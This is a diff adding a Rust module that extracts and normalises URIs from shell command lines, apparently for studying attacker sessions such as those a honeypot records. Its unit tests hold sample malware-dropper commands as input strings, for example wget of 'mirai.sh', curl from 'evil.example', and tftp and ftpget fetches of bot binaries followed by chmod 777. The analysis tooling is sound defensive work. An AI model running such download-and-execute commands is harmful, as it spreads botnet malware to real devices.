@@ -1,0 +1,198 @@
+//! URI extraction from command lines.
+//!
+//! The paper (Section 4): "If a command includes a URI (this includes anything
+//! retrieved from a remote target, including retrievals via FTP, HTTP, SCP,
+//! etc.), the URI is recorded as well." We recognize two shapes:
+//!
+//! 1. explicit scheme URIs (`http://`, `https://`, `ftp://`, `tftp://`),
+//! 2. tool-specific remote references without a scheme — `tftp -g HOST`,
+//!    `ftpget HOST file`, `scp user@host:path` — normalized to a
+//!    pseudo-scheme form so downstream analysis sees one format.
+
+/// A URI recorded from a command, normalized.
+#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
+pub struct RecordedUri(pub String);
+
+impl std::fmt::Display for RecordedUri {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.write_str(&self.0)
+    }
+}
+
+const SCHEMES: &[&str] = &["http://", "https://", "ftp://", "tftp://"];
+
+/// Extract URIs from a single already-tokenized command.
+pub fn extract_from_argv(argv: &[String]) -> Vec<RecordedUri> {
+    let mut uris = Vec::new();
+    let name = argv.first().map(|s| s.as_str()).unwrap_or("");
+
+    // 1. Any token with an explicit scheme.
+    for tok in argv {
+        if SCHEMES.iter().any(|s| tok.starts_with(s)) {
+            uris.push(RecordedUri(tok.clone()));
+        }
+    }
+
+    // 2. Tool-specific forms.
+    match name {
+        "tftp" => {
+            // busybox tftp: `tftp -g -r FILE HOST` or `tftp HOST -c get FILE`
+            if let Some(host) = tftp_host(argv) {
+                let file = flag_value(argv, "-r")
+                    .or_else(|| get_after(argv, "get"))
+                    .unwrap_or_default();
+                uris.push(RecordedUri(format!("tftp://{host}/{file}")));
+            }
+        }
+        "ftpget" => {
+            // busybox ftpget [-u user] HOST LOCAL REMOTE
+            let pos: Vec<&String> = argv[1..]
+                .iter()
+                .scan(false, |skip, a| {
+                    // skip option values of -u/-p/-P
+                    if *skip {
+                        *skip = false;
+                        return Some(None);
+                    }
+                    if a == "-u" || a == "-p" || a == "-P" {
+                        *skip = true;
+                        return Some(None);
+                    }
+                    if a.starts_with('-') {
+                        return Some(None);
+                    }
+                    Some(Some(a))
+                })
+                .flatten()
+                .collect();
+            if let Some(host) = pos.first() {
+                let remote = pos.get(2).map(|s| s.as_str()).unwrap_or("");
+                uris.push(RecordedUri(format!("ftp://{host}/{remote}")));
+            }
+        }
+        "scp" => {
+            // scp [-flags] src dst, remote side looks like user@host:path
+            for tok in &argv[1..] {
+                if let Some(colon) = tok.find(':') {
+                    if tok[..colon].contains('@') && !tok.starts_with('-') {
+                        uris.push(RecordedUri(format!("scp://{}", tok.replace(':', "/"))));
+                    }
+                }
+            }
+        }
+        _ => {}
+    }
+    uris.sort();
+    uris.dedup();
+    uris
+}
+
+fn tftp_host(argv: &[String]) -> Option<String> {
+    // Host = first non-flag token that is not a flag value.
+    let mut skip_next = false;
+    for a in &argv[1..] {
+        if skip_next {
+            skip_next = false;
+            continue;
+        }
+        match a.as_str() {
+            "-r" | "-l" | "-b" | "-c" => skip_next = true,
+            "get" | "put" => {
+                // `-c get FILE`: FILE handled separately
+                skip_next = true;
+            }
+            s if s.starts_with('-') => {}
+            s => return Some(s.to_string()),
+        }
+    }
+    None
+}
+
+fn flag_value(argv: &[String], flag: &str) -> Option<String> {
+    argv.windows(2)
+        .find(|w| w[0] == flag)
+        .map(|w| w[1].clone())
+}
+
+fn get_after(argv: &[String], word: &str) -> Option<String> {
+    argv.windows(2)
+        .find(|w| w[0] == word)
+        .map(|w| w[1].clone())
+}
+
+/// Extract URIs from a raw command line (lexes it first).
+pub fn extract_uris(line: &str) -> Vec<RecordedUri> {
+    let mut uris = Vec::new();
+    for stmt in crate::lexer::split_statements(line) {
+        for cmd in &stmt.pipeline {
+            uris.extend(extract_from_argv(&cmd.argv));
+        }
+    }
+    uris.sort();
+    uris.dedup();
+    uris
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn argv(parts: &[&str]) -> Vec<String> {
+        parts.iter().map(|s| s.to_string()).collect()
+    }
+
+    #[test]
+    fn http_uri_detected() {
+        let u = extract_from_argv(&argv(&["wget", "http://1.2.3.4/mirai.sh"]));
+        assert_eq!(u, vec![RecordedUri("http://1.2.3.4/mirai.sh".into())]);
+    }
+
+    #[test]
+    fn curl_https() {
+        let u = extract_from_argv(&argv(&["curl", "-O", "https://evil.example/x"]));
+        assert_eq!(u.len(), 1);
+        assert!(u[0].0.starts_with("https://"));
+    }
+
+    #[test]
+    fn tftp_get_form() {
+        let u = extract_from_argv(&argv(&["tftp", "-g", "-r", "bot.mips", "198.51.100.7"]));
+        assert_eq!(u, vec![RecordedUri("tftp://198.51.100.7/bot.mips".into())]);
+    }
+
+    #[test]
+    fn tftp_c_get_form() {
+        let u = extract_from_argv(&argv(&["tftp", "198.51.100.9", "-c", "get", "a.sh"]));
+        assert_eq!(u, vec![RecordedUri("tftp://198.51.100.9/a.sh".into())]);
+    }
+
+    #[test]
+    fn ftpget_form() {
+        let u = extract_from_argv(&argv(&["ftpget", "-u", "anonymous", "203.0.113.5", "x", "bot.arm"]));
+        assert_eq!(u, vec![RecordedUri("ftp://203.0.113.5/bot.arm".into())]);
+    }
+
+    #[test]
+    fn scp_form() {
+        let u = extract_from_argv(&argv(&["scp", "root@198.51.100.2:/tmp/x", "."]));
+        assert_eq!(u, vec![RecordedUri("scp://root@198.51.100.2//tmp/x".into())]);
+    }
+
+    #[test]
+    fn no_uri_in_local_commands() {
+        assert!(extract_from_argv(&argv(&["uname", "-a"])).is_empty());
+        assert!(extract_from_argv(&argv(&["echo", "hello"])).is_empty());
+    }
+
+    #[test]
+    fn full_line_extraction_dedupes() {
+        let u = extract_uris("cd /tmp; wget http://h/x; wget http://h/x && chmod 777 x");
+        assert_eq!(u.len(), 1);
+    }
+
+    #[test]
+    fn pipeline_right_side_scanned() {
+        let u = extract_uris("echo go | wget http://h/y");
+        assert_eq!(u.len(), 1);
+    }
+}
